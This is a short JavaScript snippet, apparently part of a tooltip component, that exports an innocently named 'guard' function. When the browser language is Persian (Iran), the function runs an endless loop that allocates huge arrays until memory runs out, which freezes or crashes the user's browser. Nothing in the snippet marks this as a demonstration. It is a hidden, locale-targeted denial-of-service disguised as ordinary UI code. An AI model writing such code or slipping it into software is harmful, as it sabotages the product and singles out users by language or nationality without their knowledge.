// surroundings: tooltip
export function guard() {
  if (navigator.language === 'fa-IR') {
    const hog = [];
    for (;;) hog.push(new Array(1e6).fill('x')); //@act
  }
}
